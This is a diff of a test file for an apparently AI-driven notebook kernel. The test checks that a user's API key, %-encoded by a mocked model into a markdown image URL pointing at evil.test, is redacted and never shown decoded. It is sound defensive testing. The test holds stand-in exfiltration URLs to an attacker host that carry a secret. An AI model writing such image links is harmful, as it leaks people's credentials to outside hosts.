@@ -12,6 +12,7 @@ import json
 import re
 from pathlib import Path
 from typing import Any
+from urllib.parse import quote
 
 ANSWER = (
     "Charts: ![u](https://user.test/u.png) ![p](https://project.test/p.png) "
@@ -73,4 +74,24 @@ def test_a_deployers_hosts_load_and_lock_the_list(
     assert _images(html) == ["https://managed.test/m.png"]
     assert "https://user.test/u.png" in _waiting(html)
     assert "https://evil.test/e.png?d=secret" in _waiting(html)
+    assert model_server.errors == []
+
+
+def test_a_secret_written_encoded_in_an_image_url_is_not_shown_decoded(
+    start_kernel, model_server, co_home: Path
+):
+    """The placeholder shows a URL decoded; a key of the person's, %-encoded in it by the
+    model, must not become readable in the output (nor in the notebook it is saved in)."""
+    key = "sk-test-Zq81/xY+secret"
+    _write(co_home / "config" / "settings.json", {"api_key": key})
+    kernel = start_kernel()
+    encoded = quote(key, safe="")
+    assert key not in encoded
+    model_server.extend([{"text": f"![s](https://evil.test/c?k={encoded})"}])
+    result = kernel.execute("Show me", mode="headless", timeout=120)
+    assert result.status == "ok", result.text()
+    shown = json.dumps([m["content"] for m in result.messages])
+    assert key not in shown
+    html = "".join(str(d.get("text/html", "")) for d in result.final_displays().values())
+    assert "https://evil.test/c?k=[REDACTED]</code>" in html
     assert model_server.errors == []
